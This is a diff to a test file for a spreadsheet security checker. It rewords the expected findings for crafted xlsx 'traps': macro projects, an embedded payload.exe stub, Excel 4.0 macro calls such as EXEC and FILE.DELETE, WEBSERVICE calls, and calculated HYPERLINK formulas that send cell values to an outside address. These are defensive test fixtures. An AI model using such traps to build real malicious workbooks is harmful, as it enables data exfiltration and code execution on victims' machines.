@@ -338,7 +338,7 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     "a project in an .xlsx file": (
         put("[Content_Types].xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
-        ["xl/vbaProject.bin: is a project of macros in a file of a kind that has none"],
+        ["xl/vbaProject.bin: is a macro project in a type of file that has none"],
     ),
     "a signature": (
         add("xl/vbaProjectSignature.bin", b"x", PROJECT, f"{MICROSOFT}/vbaProjectSignature"),
@@ -430,8 +430,8 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     ),
     "an object that nothing shows": (
         add("xl/embeddings/payload.bin", b"x"),
-        ["xl/embeddings/payload.bin: is a part that neither Offtake nor a spreadsheet's usual "
-         "files have"],
+        ["xl/embeddings/payload.bin: is a part that neither Offtake nor spreadsheets usually "
+         "write"],
     ),
     "an object in a picture": (
         add("xl/media/image1.png", bytes.fromhex("D0CF11E0A1B11AE1"), INPUTS, "image"),
@@ -475,8 +475,8 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     ),
     "a part that is not there": (
         relate(BOOK, "externalLink", "externalLinks/externalLink1.xml?x"),
-        ["xl/_rels/workbook.xml.rels: leads to xl/externalLinks/externalLink1.xml?x, which is no "
-         "part of the file"],
+        ["xl/_rels/workbook.xml.rels: leads to xl/externalLinks/externalLink1.xml?x, which is not "
+         "a part of the file"],
     ),
     "a base of all links, in capitals": (
         both(lambda package: package.like({
@@ -603,16 +603,16 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
             (r'HYPERLINK("#[\\server\x.xlsm]S!A1","x")',
              r"has a link that leads to #[\\server\x.xlsm]S!A1"),
             ('HYPERLINK("#"&"file://server/x")',
-             "has a link that leads to an address that is calculated"),
+             "has a link that leads to a calculated address"),
             (f'INDIRECT("{AWAY}")', f"refers to {AWAY}"),
             ("IF(A1,GET.CELL(5,A1))",
-             "calls GET.CELL, which is no function of Excel's cells or Offtake's"),
+             "calls GET.CELL, which is neither an Excel nor an Offtake function"),
         )
     },
     "a link by way of a part of a cell": (
         lambda package: changed(package, {
             FREE: '=HYPERLINK("#"&CM3)', (FREE[0], (3, 91)): r"[\\server\x.xlsm]S!A1"}),
-        ["DCF!CL3: has a link that leads to an address that is calculated: "
+        ["DCF!CL3: has a link that leads to a calculated address: "
          '=HYPERLINK("#"&CM3)'],
     ),
     "WEBSERVICE": (
@@ -625,13 +625,13 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     ),
     "a calculated link": (
         cell('=HYPERLINK("h"&"ttp://x.org/?"&Inputs!D9)'),
-        ['DCF!CL3: has a link that leads to an address that is calculated: '
+        ['DCF!CL3: has a link that leads to a calculated address: '
          '=HYPERLINK("h"&"ttp://x.org/?"&Inputs!D9)'],
     ),
     "a link by way of a cell": (
         lambda package: changed(package, {
             FREE: "=hyperlink (CM3)", (FREE[0], (3, 91)): '="http://x.org"'}),
-        ["DCF!CL3: has a link that leads to an address that is calculated: =hyperlink (CM3)"],
+        ["DCF!CL3: has a link that leads to a calculated address: =hyperlink (CM3)"],
     ),
     "a file in full": (
         cell(r"='C:\mine\[rates.xlsx]Sheet1'!A1"),
@@ -662,7 +662,7 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     ),
     "a name with a link": (
         name("There", 'HYPERLINK("http://x.org/?"&DCF!$A$1)'),
-        ["xl/workbook.xml: the name There has a link that leads to an address that is calculated: "
+        ["xl/workbook.xml: the name There has a link that leads to a calculated address: "
          '=HYPERLINK("http://x.org/?"&DCF!$A$1)'],
     ),
     "a hidden name that opens": (
@@ -672,18 +672,18 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     ),
     "a name of a macro": (
         name("Evil", "#N/A", 'vbProcedure="1"'),
-        ["xl/workbook.xml: the name Evil is that of a macro: =#N/A"],
+        ["xl/workbook.xml: the name Evil belongs to a macro: =#N/A"],
     ),
     "a name marked as a macro": (
         name("Evil", "DCF!$A$1", 'macro="1"'),
-        ["xl/workbook.xml: the name Evil is that of a macro: =DCF!$A$1"],
+        ["xl/workbook.xml: the name Evil belongs to a macro: =DCF!$A$1"],
     ),
     # Functions of the macro language (Excel 4.0 Macro Functions Reference).
     **{
         f"a name with {function}": (
             name("Rate", f'{function}("x")'),
-            [f"xl/workbook.xml: the name Rate calls {function}, which is no function of Excel's "
-             f'cells or Offtake\'s: ={function}("x")'],
+            [f"xl/workbook.xml: the name Rate calls {function}, which is neither an Excel nor an "
+             f'Offtake function: ={function}("x")'],
         )
         for function in (
             *("APP.ACTIVATE", "CREATE.OBJECT", "DOCUMENTS", "FILE.DELETE", "FPOS", "FSIZE"),
@@ -693,7 +693,7 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
     # Parts.
     "a program": (
         add("xl/payload.exe", b"MZ"),
-        ["xl/payload.exe: is a part that neither Offtake nor a spreadsheet's usual files have"],
+        ["xl/payload.exe: is a part that neither Offtake nor spreadsheets usually write"],
     ),
     "a relationship of an unknown kind": (
         add("xl/styles2.xml", "<x/>", BOOK, "http://x.org/evil"),
@@ -708,19 +708,19 @@ TRAPS: dict[str, tuple[Change, list[str]]] = {
         put("xl/worksheets/sheet7.xml", "</sheetData>", '<m:row r="900" xmlns:m="http://schemas.'
             'openxmlformats.org/spreadsheetml/2006/main"><m:c r="A900"><m:f>WEBSERVICE("x")</m:f>'
             "</m:c></m:row></sheetData>"),
-        ["xl/worksheets/sheet7.xml: has elements that a spreadsheet may read, and this check does "
+        ["xl/worksheets/sheet7.xml: has elements that a spreadsheet may read but this check does "
          "not"],
     ),
     "a choice of names": (
         put(BOOK, "</workbook>", '<mc:AlternateContent xmlns:mc="x"><mc:Choice><definedNames>'
             '<definedName name="Evil">EXEC("x")</definedName></definedNames></mc:Choice>'
             "</mc:AlternateContent></workbook>"),
-        ["xl/workbook.xml: has elements that a spreadsheet may read, and this check does not"],
+        ["xl/workbook.xml: has elements that a spreadsheet may read but this check does not"],
     ),
     "a choice of cells": (
         put("xl/worksheets/sheet7.xml", "<pageMargins", '<mc:AlternateContent xmlns:mc="x">'
             "<mc:Choice><sheetData/></mc:Choice></mc:AlternateContent><pageMargins"),
-        ["xl/worksheets/sheet7.xml: has elements that a spreadsheet may read, and this check does "
+        ["xl/worksheets/sheet7.xml: has elements that a spreadsheet may read but this check does "
          "not"],
     ),
     "a base of all links": (
